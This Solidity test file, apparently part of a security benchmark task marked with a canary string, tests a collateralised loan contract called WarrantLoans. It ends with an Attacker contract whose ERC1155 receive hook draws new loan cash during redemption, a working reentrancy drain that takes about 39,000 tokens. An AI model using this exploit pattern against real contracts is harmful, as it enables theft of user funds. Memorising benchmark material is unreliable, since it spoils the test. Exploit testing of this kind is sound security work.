// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import {ERC1155} from "@openzeppelin/contracts@4.9.6/token/ERC1155/ERC1155.sol";
import "./WarrantLoans.sol";

// assay-canary-80d568b4-9db4-43b8-9802-5e77d3a1fe7b

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Cash is ERC20("Cash", "CSH") {
    address private bank = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == bank, "bank");
        _mint(to, amount);
    }
}

contract Warrants is ERC1155("") {
    address private warehouse = msg.sender;

    function mint(address to, uint256 metal, uint256 count) external {
        require(msg.sender == warehouse, "warehouse");
        _mint(to, metal, count, "");
    }
}

// Sells warrants from its stock.
contract Shop is ERC1155Holder {
    Warrants private warrants;

    constructor(Warrants w) {
        warrants = w;
    }

    function buy(uint256 metal, uint256 count) external payable {
        require(msg.value == count * 1 ether, "price");
        warrants.safeTransferFrom(address(this), msg.sender, metal, count, "");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1700000000;
    uint256 private constant COPPER = 1;
    uint256 private constant TIN = 2;

    Cash public cash;
    Warrants private warrants;
    Shop private shop;
    WarrantLoans private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        cash = new Cash();
        warrants = new Warrants();
        shop = new Shop(warrants);
        warrants.mint(address(shop), COPPER, 1000);
        warrants.mint(ANA, COPPER, 20);
        warrants.mint(ANA, TIN, 5);
        desk = new WarrantLoans(warrants, cash);
        desk.setRate(COPPER, 500 ether);
        desk.setRate(TIN, 1000 ether);
        cash.mint(address(desk), 50_000 ether);
        mallory = new Attacker(desk, shop, warrants, cash);
        vm.deal(address(mallory), 41 ether);
        vm.startPrank(ANA);
        warrants.setApprovalForAll(address(desk), true);
        cash.approve(address(desk), type(uint256).max);
        desk.pledge(COPPER, 10, 1000 ether);
        vm.stopPrank();
    }

    function onERC1155Received(address, address, uint256, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC1155Received.selector;
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        require(desk.pledge(TIN, 5, 4900 ether) == 2, "second loan");
        desk.draw(1, 2000 ether);
        (address borrower, , uint256 count, uint256 debt, uint256 due) = desk.loans(1);
        require(borrower == ANA && count == 10 && debt == 3060 ether && due == START + 60 days, "record");
        require(cash.balanceOf(ANA) == 7900 ether, "drawn");
        desk.repay(1, 1060 ether);
        vm.stopPrank();
        vm.warp(START + 61 days);
        vm.prank(ANA);
        desk.redeem(1);
        require(cash.balanceOf(ANA) == 4840 ether && warrants.balanceOf(ANA, COPPER) == 20, "redeemed");
        desk.claim(2, BEN);
        require(warrants.balanceOf(BEN, TIN) == 5, "claimed");
        desk.withdraw(100 ether);
        require(cash.balanceOf(address(this)) == 100 ether, "withdrawn");
        uint256[] memory ids = new uint256[](1);
        uint256[] memory counts = new uint256[](1);
        (ids[0], counts[0]) = (COPPER, 1);
        vm.prank(ANA);
        warrants.safeBatchTransferFrom(ANA, address(desk), ids, counts, "");
        require(warrants.balanceOf(address(desk), COPPER) == 1, "batch");
        require(desk.supportsInterface(0x01ffc9a7), "interface");
        desk.transferOwnership(BEN);
        vm.prank(BEN);
        desk.acceptOwnership();
        require(desk.owner() == BEN, "new owner");
        vm.prank(BEN);
        desk.renounceOwnership();
        require(desk.owner() == address(0), "none");
    }

    function test_RefusesOpenings() public {
        vm.expectRevert(WarrantLoans.NothingGiven.selector);
        new WarrantLoans(IERC1155(address(0)), cash);
        vm.expectRevert(WarrantLoans.NothingGiven.selector);
        new WarrantLoans(warrants, IERC20(address(0)));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.setRate(TIN, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.withdraw(1);
        vm.expectRevert(abi.encodeWithSelector(WarrantLoans.NotBorrower.selector, ANA));
        desk.draw(1, 1);
        vm.expectRevert(abi.encodeWithSelector(WarrantLoans.NotBorrower.selector, ANA));
        desk.redeem(1);
        vm.warp(START + 61 days);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.claim(1, BEN);
        vm.stopPrank();
    }

    function test_RefusesInput() public {
        vm.startPrank(ANA);
        vm.expectRevert(WarrantLoans.NothingGiven.selector);
        desk.pledge(TIN, 0, 0);
        vm.expectRevert(WarrantLoans.NothingGiven.selector);
        desk.repay(1, 0);
        vm.expectRevert();
        desk.repay(1, 1020 ether + 1);
        vm.expectRevert(abi.encodeWithSelector(WarrantLoans.OverLimit.selector, 5100 ether, 5000 ether));
        desk.draw(1, 4000 ether);
        vm.stopPrank();
        vm.expectRevert(WarrantLoans.NothingGiven.selector);
        desk.claim(9, BEN);
    }

    function test_RefusesTimes() public {
        vm.warp(START + 60 days);
        vm.expectRevert(abi.encodeWithSelector(WarrantLoans.NotBefore.selector, START + 60 days));
        desk.claim(1, BEN);
        vm.warp(START + 60 days + 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(WarrantLoans.Due.selector, START + 60 days));
        desk.draw(1, 1 ether);
    }

    function test_RefusesWithoutCash() public {
        vm.startPrank(ANA);
        cash.transfer(BEN, 1000 ether);
        vm.expectRevert("ERC20: transfer amount exceeds balance");
        desk.redeem(1);
        vm.expectRevert("ERC20: transfer amount exceeds balance");
        desk.repay(1, 1 ether);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(cash.balanceOf(address(mallory)) >= 39_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker is ERC1155Holder {
    WarrantLoans private desk;
    Shop private shop;
    Warrants private warrants;
    Cash private cash;
    uint256 private closing;

    constructor(WarrantLoans d, Shop s, Warrants w, Cash c) {
        desk = d;
        shop = s;
        warrants = w;
        cash = c;
    }

    function run() external {
        shop.buy{value: 41 ether}(1, 41);
        warrants.setApprovalForAll(address(desk), true);
        cash.approve(address(desk), type(uint256).max);
        desk.pledge(1, 1, 400 ether);
        for (uint256 i = 0; i < 2; i++) {
            closing = desk.pledge(1, 40, 1 ether);
            desk.redeem(closing);
        }
    }

    function onERC1155Received(address operator, address from, uint256 id, uint256 value, bytes memory data)
        public
        override
        returns (bytes4)
    {
        if (from == address(desk)) desk.draw(closing, 19_600 ether - 2 ether);
        return super.onERC1155Received(operator, from, id, value, data);
    }
}
